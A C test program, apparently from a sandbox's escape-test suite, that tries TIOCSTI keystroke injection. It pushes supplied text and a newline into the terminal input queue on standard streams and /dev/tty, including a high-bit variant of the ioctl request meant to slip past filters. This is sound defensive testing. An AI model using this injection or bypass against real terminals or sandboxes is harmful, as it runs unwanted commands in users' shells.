/* e0606-tiocsti - type into the terminal, for the shell to run later.
 *
 * Attack: TIOCSTI pushes bytes into a terminal's input queue as if typed;
 * whatever reads the terminal after the jailed program ends (the user's
 * shell) runs them.  Injects TEXT (and a newline) on standard input,
 * output and error and on /dev/tty, with the plain request and with high
 * bits set in the request number (the kernel reads 32 bits).  The driver
 * runs the program on a pseudo-terminal and reads the queue afterwards.
 * Source: the review in jail-syscall-review.txt (ioctls are dangerous:
 * deny all but a few); DESIGN.md ("TIOCSTI keystroke injection").
 * Usage: e0606-tiocsti TEXT */
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

static long inject(int fd, unsigned long req, const char *text)
{
	for (const char *p = text; *p; p++) {
		long r = syscall(SYS_ioctl, fd, req, p);
		if (r < 0)
			return r;
	}
	return syscall(SYS_ioctl, fd, req, "\n");
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0606-tiocsti TEXT");
	char label[64];
	int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
	esc_show_result("open /dev/tty", tty);
	int fds[] = { 0, 1, 2, tty };
	for (size_t i = 0; i < sizeof fds / sizeof fds[0]; i++) {
		if (fds[i] < 0)
			continue;
		snprintf(label, sizeof label, "TIOCSTI on fd %d", fds[i]);
		esc_show_result(label, inject(fds[i], TIOCSTI, argv[1]));
	}
#if ULONG_MAX > 0xffffffffUL	/* i386 has no high bits to set */
	if (tty >= 0)
		esc_show_result("TIOCSTI | 1 << 32 on /dev/tty",
				inject(tty, (1UL << 32) | TIOCSTI, argv[1]));
#endif
	return 0;
}
